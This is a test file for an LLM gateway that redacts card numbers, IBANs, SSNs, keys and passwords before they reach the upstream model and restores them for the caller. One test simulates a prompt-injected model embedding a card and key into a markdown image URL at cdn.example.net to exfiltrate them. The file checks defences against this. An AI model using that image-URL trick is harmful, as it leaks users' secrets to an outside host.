"""What takes a value's place, through a real gateway: the upstream never gets the value, and the caller gets it back."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from typing import Any

import anthropic
import openai
import orjson
import pytest
from conftest import StartGateway
from gateways import Gateway
from upstreams import Upstream, reply, upstream
from wires_support import CHAT, MESSAGES, target

from gateway import echo

CARD = "4111 1111 1111 1111"
IBAN = "DE89 3704 0044 0532 0130 00"
SSN = "536-90-4399"
KEY = "AKIAQ2W3E4R5T6Y7U8I9"
VALUES = (CARD, IBAN, SSN, KEY)
MODES = {"pii.payment": "format", "pii.bank": "mask", "pii.national": "hash"}
SAID = f"card {CARD}, account {IBAN}, SSN {SSN}, key {KEY}."
SENT = re.compile(
    r"card (?P<card>\d{4} \d{4} \d{4} \d{4}), account (?:\*{4} ){5}\*\*, SSN (?P<ssn>[a-z_]+~[0-9a-f]{24}), "
    r"key (?P<key>\[SECRET_CLOUD_KEY_[0-9A-F]{10}\])\."
)
TOOLS: Any = [
    {"type": "function", "function": {"name": "pay", "description": "Pays.", "parameters": {"type": "object", "properties": {}}}}
]


async def _answer(body: bytes, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The echo model, some bytes at a time: stand-ins come back cut in two, and so do frames and characters."""
    doc = orjson.loads(body)
    where = target(MESSAGES if "max_tokens" in doc else CHAT, b"")
    if doc["model"] == "obedient":
        sent = SENT.search(body.decode())
        assert sent
        doc["messages"][-1]["content"] = f"say:![chart](https://cdn.example.net/c.png?s={sent['card']}&k={sent['key']}) done"
    if not doc.get("stream"):
        writer.write(reply(echo.respond(where, doc).body))
        return
    writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
    data = b"".join(echo.stream(where, doc))
    for at in range(0, len(data), 53):
        piece = data[at : at + 53]
        writer.write(b"%x\r\n%b\r\n" % (len(piece), piece))
        await writer.drain()
    writer.write(b"0\r\n\r\n")


@pytest.fixture(scope="module")
def behind() -> Iterator[Upstream]:
    with upstream(_answer) as running:
        yield running


@pytest.fixture(scope="module")
def gateway(behind: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    running = Gateway(
        tmp_path_factory.mktemp("modes"),
        {
            "limits": {"ready_grace_seconds": 0},
            "upstreams": {"openai": {"base_url": behind.base_url}, "anthropic": {"base_url": behind.base_url}},
            "policy": {"preset": "balanced", "redaction": MODES},
            "detection": {"model": False},  # which blocks the whole reply for the image before the addresses are looked at
        },
        1,
        {},
    )
    yield running
    running.stop()


def _sent(behind: Upstream) -> re.Match[str]:
    """The stand-ins in what the upstream was sent last, which holds no value."""
    body = behind.bodies[-1].decode()
    for value in VALUES:
        assert value not in body
    found = SENT.search(body)
    assert found, body
    assert found["card"] != CARD
    return found


def _came(text: str, sent: re.Match[str]) -> None:
    """The caller reads what comes back as it was, and the stand-ins of what does not."""
    assert f"card {CARD}, account **** **** **** **** **** **, SSN {sent['ssn']}, key {KEY}." in text
    assert sent["card"] not in text
    assert sent["key"] not in text
    assert IBAN not in text
    assert SSN not in text


@pytest.mark.parametrize("streamed", [False, True])
def test_openai(gateway: Gateway, behind: Upstream, streamed: bool) -> None:
    with openai.OpenAI(base_url=f"{gateway.url}/v1", api_key="unused", max_retries=0) as client:
        asked: Any = {"model": "m", "messages": [{"role": "user", "content": f"say:{SAID}"}]}
        if streamed:
            chunks = client.chat.completions.create(**asked, stream=True)
            text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
        else:
            text = client.chat.completions.create(**asked).choices[0].message.content
    _came(text, _sent(behind))


@pytest.mark.parametrize("streamed", [False, True])
def test_in_a_tool_call(gateway: Gateway, behind: Upstream, streamed: bool) -> None:
    asked: Any = {"model": "m", "messages": [{"role": "user", "content": "call:pay " + json.dumps({"note": SAID})}], "tools": TOOLS}
    with openai.OpenAI(base_url=f"{gateway.url}/v1", api_key="unused", max_retries=0) as client:
        if streamed:
            chunks = client.chat.completions.create(**asked, stream=True)
            calls = [call for chunk in chunks if chunk.choices for call in chunk.choices[0].delta.tool_calls or []]
            arguments = "".join(call.function.arguments or "" for call in calls if call.function)
        else:
            (call,) = client.chat.completions.create(**asked).choices[0].message.tool_calls or []
            assert call.type == "function"
            arguments = call.function.arguments
    _came(json.loads(arguments)["note"], _sent(behind))


@pytest.mark.parametrize("streamed", [False, True])
def test_anthropic(gateway: Gateway, behind: Upstream, streamed: bool) -> None:
    with anthropic.Anthropic(base_url=gateway.url, api_key="unused", max_retries=0) as client:
        asked: Any = {"model": "m", "max_tokens": 500, "messages": [{"role": "user", "content": f"say:{SAID}"}]}
        if streamed:
            with client.messages.stream(**asked) as stream:
                text = "".join(stream.text_stream)
        else:
            (block,) = client.messages.create(**asked).content
            assert block.type == "text"
            text = block.text
    _came(text, _sent(behind))


@pytest.mark.parametrize("streamed", [False, True])
def test_a_model_that_is_made_to_put_a_value_into_an_images_address(gateway: Gateway, behind: Upstream, streamed: bool) -> None:
    """A document ordered it, the model obeys with the stand-in, and the caller's page would fetch the image."""
    with gateway.client() as client:
        asked = {"model": "obedient", "stream": streamed, "messages": [{"role": "user", "content": SAID}]}
        got = client.post(CHAT, json=asked)
    _sent(behind)
    assert got.status_code == 200
    assert "cdn.example.net" in got.text
    for value in (CARD, KEY):
        assert value not in got.text


SECRETS = (f"key {KEY}", "password: Tr0ub4dor&3", f"api_key={KEY}", f"the card number {CARD}", "postgres://ann:Tr0ub4dor3@db.example/x")


@pytest.mark.parametrize("streamed", [False, True])
def test_a_hash_is_not_hashed_again(start_gateway: StartGateway, behind: Upstream, streamed: bool) -> None:
    """In the reply, and when the client sends that in its next turn: else the same value had another in each."""
    gateway = start_gateway(
        upstreams={"openai": {"base_url": behind.base_url}}, detection={"model": False},
        policy={"preset": "balanced", "redaction": {"secret": "hash", "pii": "hash"}},
    )  # fmt: skip
    messages: list[Any] = [{"role": "user", "content": "say:" + "; ".join(SECRETS)}]
    with openai.OpenAI(base_url=f"{gateway.url}/v1", api_key="unused", max_retries=0) as client:
        for turn in range(3):
            if streamed:
                chunks = client.chat.completions.create(model="m", messages=messages, stream=True)
                said = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
            else:
                said = str(client.chat.completions.create(model="m", messages=messages).choices[0].message.content)
            sent = json.loads(behind.bodies[-1])["messages"]
            assert said == sent[-1]["content"].removeprefix("say:")
            assert len(re.findall("~[0-9a-f]{24}", said)) == len(SECRETS)
            if turn:
                assert sent[-2]["content"] == said
            messages += [{"role": "assistant", "content": said}, {"role": "user", "content": f"say:{said}"}]
